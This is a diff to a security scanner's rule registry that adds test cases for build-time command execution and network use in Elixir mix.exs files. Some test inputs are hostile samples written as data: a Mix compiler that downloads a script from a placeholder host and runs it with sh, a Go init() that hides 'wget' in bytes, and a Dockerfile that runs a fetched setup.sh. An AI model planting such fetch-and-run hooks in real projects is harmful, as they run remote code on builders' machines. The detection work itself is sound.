@@ -82,6 +82,10 @@ var registry = []Rule{
 		// --checksum fixes what the download is: the line decides what runs.
 		{"Dockerfile", "FROM alpine\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.invalid/setup.sh /setup.sh\nRUN sh /setup.sh", 0, true},
 		{"x.go", "package x\n\nimport \"os/exec\"\n\nfunc init() {\n\tc := string([]byte{119, 103, 101, 116})\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}", 7, false},
+		// A Mix compiler in mix.exs: mix compile and mix test run it.
+		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
+		// A native library fetched for the build is not run by the fetch.
+		{"mix.exs", "defp download(url, dest) do\n  {cmd, args} = {\"curl\", [\"--fail\", \"-L\", url, \"-o\", dest]}\n  case System.cmd(cmd, args) do\n    {_, 0} -> :ok\n  end\nend", 0, true},
 		// Make, just and Task: a URL in a variable, a download continued
 		// with a backslash, run by a later recipe line; a variable set from
 		// a command's output, run.
@@ -772,7 +776,12 @@ var registry = []Rule{
 	{"eval", KindExecute, Medium, "runs code (eval or exec)", "code built at run time is not the code in the diff",
 		[]Case{{"x.py", "exec(code)", 0, false}}},
 	{"network", KindNetwork, Medium, "opens a network connection", "check where it connects and what it sends",
-		[]Case{{"x.py", "s = socket.socket()", 0, false}}},
+		[]Case{
+			{"x.py", "s = socket.socket()", 0, false},
+			{"x.rb", "s = Socket.tcp('x.invalid', 80)", 0, false},
+			// A module's name with Socket in it is not a socket.
+			{"mix.exs", "defp groups_for_modules do\n  [Socket: [Phoenix.Socket.Broadcast, Phoenix.Socket.Message]]\nend", 0, true},
+		}},
 	{"build-event", KindBuildFile, Medium, "MSBuild runs a command at build (pre/post-build event, Exec task)",
 		"Visual Studio and msbuild run it on every build of the project, with the builder's rights", []Case{
 			{"x.csproj", "<Target Name=\"B\" BeforeTargets=\"Build\">\n  <Exec Command=\"dotnet tool restore\" />\n</Target>", 2, false},
